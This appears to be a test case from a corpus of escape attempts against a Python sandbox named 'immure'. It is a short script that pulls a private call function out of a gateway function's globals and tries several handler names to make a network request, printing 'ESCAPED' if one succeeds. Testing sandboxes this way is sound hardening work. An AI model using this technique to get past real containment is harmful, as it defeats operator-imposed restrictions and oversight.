# escape: 558
# technique: the call below immure.gateway, found through a function's globals
# family: dnet
# goal: network
# first-seen: immure's own gateway module
import json
from immure import gateway
head = json.dumps({'url': 'http://127.0.0.1:1/', 'method': 'GET', 'headers': [], 'redirect': True}).encode()
call = gateway.exchange.__globals__['_jail'].call
for name in ('web', 'fetch', 'http', 'stub'):
    try: print('ESCAPED:asked outside:', call(name, len(head).to_bytes(4, 'little') + head))
    except PermissionError: pass
